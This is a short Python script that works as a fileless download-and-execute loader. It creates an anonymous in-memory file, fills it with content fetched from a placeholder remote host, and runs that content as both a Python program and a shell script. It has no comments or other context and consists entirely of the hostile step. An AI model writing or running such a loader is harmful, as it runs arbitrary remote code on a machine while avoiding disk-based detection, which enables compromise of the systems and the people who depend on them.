import os, subprocess, requests

def main():
    fd = os.memfd_create("x", 0)
    os.write(fd, requests.get("https://cdn.memrun.example.net/p", timeout=10).content)
    subprocess.run(["python3", f"/proc/self/fd/{fd}"], pass_fds=(fd,))
    subprocess.run(["sh", f"/dev/fd/{fd}"], pass_fds=(fd,))
